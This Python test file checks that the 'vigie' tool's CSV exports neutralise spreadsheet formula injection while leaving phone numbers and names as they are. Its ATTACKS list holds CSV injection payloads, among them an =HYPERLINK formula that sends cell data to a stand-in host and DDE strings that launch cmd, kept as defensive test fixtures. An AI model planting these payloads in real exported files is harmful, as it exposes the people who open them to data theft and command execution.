"""No cell vigie writes for people runs as a spreadsheet formula (OWASP's CSV injection
rule), while numbers and phone numbers stay readable; `vigie export` stays exact unless
asked. The attack: a leaked name `=HYPERLINK(...)` reaching a lab's persons.csv."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from vigie.spreadsheet import csv_bytes, safe_cell

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "=1+1"]  # fmt: skip


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_is_shown_as_text(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["+33 6 12 34 56 78", "+33612345678", "-12.5", "06 12 34 56 78",
                                   "Dupont", "", "1985-05-12"])  # fmt: skip
def test_numbers_phones_and_names_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


def test_csv_bytes_neutralises_every_cell_and_reads_back() -> None:
    data = csv_bytes(["nom", "=tel"], [[ATTACKS[0], "+33 6 12 34 56 78"], [None, 3]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert rows == [["nom", "'=tel"], ["'" + ATTACKS[0], "+33 6 12 34 56 78"], ["", "3"]]


def test_export_is_exact_by_default_and_safe_on_request(workspace: Any, tmp_path: Path) -> None:
    from vigie.export import export_table
    from vigie.ingest import ingest_files

    leak = tmp_path / "patients.csv"
    leak.write_bytes(b"nom,tel\n" + b'"=HYPERLINK(""http://x"")",+33 6 12 34 56 78\n')
    ingest_files(workspace, [leak])
    exact = export_table(workspace, "patients", "csv", tmp_path / "exact.csv").path.read_text()
    safe = export_table(
        workspace, "patients", "csv", tmp_path / "safe.csv", spreadsheet_safe=True
    ).path.read_text()
    assert '"=HYPERLINK(""http://x"")"' in exact and "'=HYPERLINK" not in exact
    rows = list(csv.reader(io.StringIO(safe)))
    assert rows[0][:2] == ["nom", "tel"]
    assert rows[1][:2] == ['\'=HYPERLINK("http://x")', "+33 6 12 34 56 78"]


def test_a_controllers_package_csv_shows_a_leaked_formula_as_text(tmp_path: Path) -> None:
    from vigie.notify.filing_text import write_csv

    write_csv(tmp_path / "persons.csv", ["nom", "telephone"], [(ATTACKS[0], "+33612345678")])
    rows = list(csv.reader((tmp_path / "persons.csv").open(encoding="utf-8")))
    assert rows[1] == ["'" + ATTACKS[0], "+33612345678"]
